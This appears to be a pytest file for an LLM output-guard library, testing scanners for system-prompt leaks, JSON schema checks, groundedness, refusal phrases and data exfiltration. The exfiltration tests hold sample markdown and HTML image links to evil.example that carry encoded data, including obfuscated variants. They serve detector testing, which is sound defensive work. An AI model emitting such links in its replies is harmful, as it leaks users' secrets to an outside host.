"""Output scanners: positives, negatives and exact offsets for each."""

from __future__ import annotations

import pytest

from aiattest.errors import ScannerError
from aiattest.guard.interface import Channel, ScanContext
from aiattest.guard.output.exfiltration import ExfiltrationScanner
from aiattest.guard.output.grounding import GroundednessScanner
from aiattest.guard.output.leakage import SystemPromptLeakScanner, new_canary
from aiattest.guard.output.refusal import RefusalScanner
from aiattest.guard.output.schema import JsonSchemaScanner

OUT = ScanContext(channel=Channel.ASSISTANT)
SYSTEM = (
    "You are Ada, the billing assistant of Northwind. Never discuss refunds above 500 euros "
    "and always escalate disputes to a human agent within one business day."
)


def spans(text: str, findings: list) -> list[str]:  # type: ignore[type-arg]
    return [text[f.start : f.end] for f in findings]


class TestSystemPromptLeak:
    def test_canary_found_at_exact_offsets(self) -> None:
        canary = new_canary()
        text = f"Sure! {canary} and again {canary}"
        found = SystemPromptLeakScanner().scan(text, ScanContext(canary=canary))
        assert spans(text, found) == [canary, canary]
        assert all(f.subtype == "canary" and f.score == 1.0 for f in found)

    def test_copied_run_of_the_prompt(self) -> None:
        text = (
            "My instructions: never discuss refunds above 500 euros and always escalate "
            "disputes to a human agent. Anything else?"
        )
        found = SystemPromptLeakScanner().scan(text, ScanContext(system_prompt=SYSTEM))
        assert spans(text, found) == [
            "never discuss refunds above 500 euros and always escalate disputes to a human agent"
        ]
        assert found[0].subtype == "overlap"
        assert 0.6 <= found[0].score <= 1.0

    def test_paraphrase_and_short_quotes_are_not_leaks(self) -> None:
        text = "I am the billing assistant. Refunds are limited; disputes go to a person."
        assert SystemPromptLeakScanner().scan(text, ScanContext(system_prompt=SYSTEM)) == []
        assert SystemPromptLeakScanner().scan(text, ScanContext()) == []

    def test_canaries_differ(self) -> None:
        assert new_canary() != new_canary()

    def test_bad_ngram(self) -> None:
        with pytest.raises(ScannerError):
            SystemPromptLeakScanner.from_options({"ngram": 2})


class TestJsonSchema:
    SCHEMA = {  # noqa: RUF012 - read-only test data
        "type": "object",
        "properties": {"name": {"type": "string"}, "age": {"type": "integer"}},
        "required": ["name"],
        "additionalProperties": False,
    }

    def test_valid_document(self) -> None:
        scanner = JsonSchemaScanner(self.SCHEMA)
        assert scanner.scan('{"name": "Ada", "age": 3}', OUT) == []

    def test_violations_one_per_error_over_the_json_span(self) -> None:
        text = '  ```json\n{"age": "x", "extra": 1}\n```  '
        found = JsonSchemaScanner(self.SCHEMA).scan(text, OUT)
        assert sorted(f.subtype or "" for f in found) == [
            "additionalProperties",
            "required",
            "type",
        ]
        assert {spans(text, [f])[0] for f in found} == {'{"age": "x", "extra": 1}'}

    def test_invalid_json(self) -> None:
        text = "{'name': 'Ada'}"
        found = JsonSchemaScanner(self.SCHEMA).scan(text, OUT)
        assert [(f.subtype, f.start, f.end) for f in found] == [("invalid_json", 0, len(text))]

    def test_deep_nesting_does_not_raise(self) -> None:
        text = "[" * 100_000 + "]" * 100_000
        found = JsonSchemaScanner({"type": "array"}).scan(text, OUT)
        assert [f.subtype for f in found] in (["invalid_json"], ["too_deep"], [])

    def test_schema_from_the_request_wins(self) -> None:
        context = ScanContext(output_schema={"type": "array"})
        assert [f.subtype for f in JsonSchemaScanner().scan('{"a": 1}', context)] == ["type"]
        assert JsonSchemaScanner().scan("not json at all", OUT) == []  # nothing to check

    def test_invalid_schema_is_refused(self) -> None:
        with pytest.raises(ScannerError):
            JsonSchemaScanner.from_options({"schema": {"type": 12}})


class TestGroundedness:
    DOCS = (
        "The Northwind premium plan costs 30 euros per month and includes phone support.",
        "Refunds are processed within 14 days of the request.",
    )

    def test_supported_answer_has_no_findings(self) -> None:
        text = "The premium plan costs 30 euros per month. Refunds are processed within 14 days."
        outcome = GroundednessScanner().assess(text, ScanContext(rag_context=self.DOCS))
        assert outcome.findings == ()
        assert outcome.score == 0.0

    def test_unsupported_sentence_is_flagged_with_exact_offsets(self) -> None:
        text = "The premium plan costs 30 euros per month. Our CEO founded the company on Mars."
        found = GroundednessScanner().scan(text, ScanContext(rag_context=self.DOCS))
        assert spans(text, found) == ["Our CEO founded the company on Mars."]
        assert found[0].subtype == "lexical"

    def test_invented_number_is_flagged(self) -> None:
        text = "The premium plan costs 45 euros per month."
        found = GroundednessScanner().scan(text, ScanContext(rag_context=self.DOCS))
        assert spans(text, found) == [text]
        assert found[0].subtype == "number"

    def test_without_context_nothing_is_judged(self) -> None:
        assert GroundednessScanner().scan("Anything at all goes here.", OUT) == []


class TestExfiltration:
    def test_markdown_image_with_payload(self) -> None:
        url = "https://evil.example/log?data=c2VjcmV0IGtleSBpcyBzay0xMjM0NQ"
        text = f"Done. ![loading]({url})"
        found = ExfiltrationScanner().scan(text, OUT)
        assert spans(text, found) == [url]
        assert found[0].subtype == "markdown_image"
        assert found[0].score == 0.95

    def test_plain_external_image_scores_lower(self) -> None:
        text = "![logo](https://cdn.example/logo.png)"
        assert [f.score for f in ExfiltrationScanner().scan(text, OUT)] == [0.6]

    def test_allowed_domain_is_not_flagged(self) -> None:
        scanner = ExfiltrationScanner.from_options({"allowed_domains": ["example.com"]})
        text = "![x](https://img.example.com/a.png?session=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa)"
        assert scanner.scan(text, OUT) == []

    def test_link_only_with_payload(self) -> None:
        plain = "See [the docs](https://docs.python.org/3/library/re.html)."
        assert ExfiltrationScanner().scan(plain, OUT) == []
        url = "https://x.example/?q=" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 2
        text = f"[click here]({url})"
        found = ExfiltrationScanner().scan(text, OUT)
        assert spans(text, found) == [url]
        assert found[0].subtype == "markdown_link"

    def test_html_image_and_reference(self) -> None:
        url = "https://evil.example/p.gif?u=" + "a1b2" * 10
        text = f'<img alt="" src="{url}">\n[ref]: {url}\n'
        found = ExfiltrationScanner().scan(text, OUT)
        assert {f.subtype for f in found} == {"html_image", "markdown_reference"}
        assert spans(text, found) == [url, url]

    def test_prose_is_not_flagged(self) -> None:
        assert ExfiltrationScanner().scan("Images [1] and links (2) in prose.", OUT) == []


class TestRefusal:
    @pytest.mark.parametrize(
        "text",
        [
            "I'm sorry, but I can't help with that.",
            "I cannot assist with creating malware.",
            "As an AI language model, I cannot browse the web.",
            "I must respectfully decline this request.",
            "I’m unable to provide that information.",
        ],
    )
    def test_refusals(self, text: str) -> None:
        found = RefusalScanner().scan(text, OUT)
        assert len(found) == 1
        assert found[0].start == 0
        assert found[0].score == 0.9

    @pytest.mark.parametrize(
        "text",
        [
            "Here is the summary you asked for.",
            "You can't go wrong with option B.",
            "The function cannot be called twice.",
        ],
    )
    def test_non_refusals(self, text: str) -> None:
        assert RefusalScanner().scan(text, OUT) == []

    def test_late_refusal_scores_lower_and_offsets_exact(self) -> None:
        text = "x" * 300 + " I can't provide that."
        found = RefusalScanner().scan(text, OUT)
        assert spans(text, found) == ["I can't provide"]
        assert found[0].score == 0.6


class TestExfiltrationObfuscated:
    @pytest.mark.parametrize(
        ("text", "url", "score"),
        [
            (
                "![x](  <HTTPS://Evil.example/a?d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa>)",
                "HTTPS://Evil.example/a?d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                0.95,
            ),
            ("![x](//evil.example/p.png)", "//evil.example/p.png", 0.6),
            ("<IMG SRC='https://evil.example/x.gif?q=1'>", "https://evil.example/x.gif?q=1", 0.6),
            (
                "![x](https://evil.example/" + "QUJD" * 12 + ")",
                "https://evil.example/" + "QUJD" * 12,
                0.95,
            ),
            (
                "![logo][ref]\n\n[ref]: https://evil.example/i.png",
                "https://evil.example/i.png",
                0.6,
            ),
        ],
    )
    def test_variants(self, text: str, url: str, score: float) -> None:
        found = ExfiltrationScanner().scan(text, OUT)
        assert spans(text, found) == [url]
        assert found[0].score == score

    def test_reference_used_only_by_a_link_needs_a_payload(self) -> None:
        text = "[docs][ref]\n\n[ref]: https://docs.example/page"
        assert ExfiltrationScanner().scan(text, OUT) == []
